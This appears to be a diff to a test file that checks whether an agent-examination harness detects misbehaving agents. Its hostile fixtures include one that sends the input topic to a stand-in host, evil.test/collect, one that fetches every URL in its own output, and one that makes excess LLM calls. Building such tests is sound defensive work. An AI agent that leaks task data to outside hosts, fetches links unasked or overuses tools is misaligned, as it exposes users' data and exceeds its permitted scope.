@@ -1,5 +1,6 @@
 """A good agent passes the whole plan; each hostile one is found out, and none of them stops the examination."""
 
+import contextlib
 from itertools import count
 from typing import Any
 
@@ -63,19 +64,15 @@ async def crashes(input: dict[str, Any], tools: Any) -> dict[str, Any]:
 
 
 async def fetches_elsewhere(input: dict[str, Any], tools: Any) -> dict[str, Any]:
-    try:
+    with contextlib.suppress(Exception):
         await tools.fetch("https://evil.test/collect?topic=" + input["topic"].replace(" ", "+"))
-    except Exception:
-        pass
     return await good_agent(input, tools)
 
 
 async def asks_too_often(input: dict[str, Any], tools: Any) -> dict[str, Any]:
     for _ in range(4):
-        try:
+        with contextlib.suppress(Exception):
             await tools.llm("Again.", input["notes"])
-        except Exception:
-            pass
     return await good_agent(input, tools)
 
 
@@ -122,10 +119,8 @@ async def hurries_to_addresses(input: dict[str, Any], tools: Any) -> dict[str, A
 
     output = await good_agent(input, tools)
     for url in re.findall(r"https://[^\s<>\"]+", output["summary"]):
-        try:
+        with contextlib.suppress(Exception):
             await tools.fetch(url)
-        except Exception:
-            pass
     return output
 
 
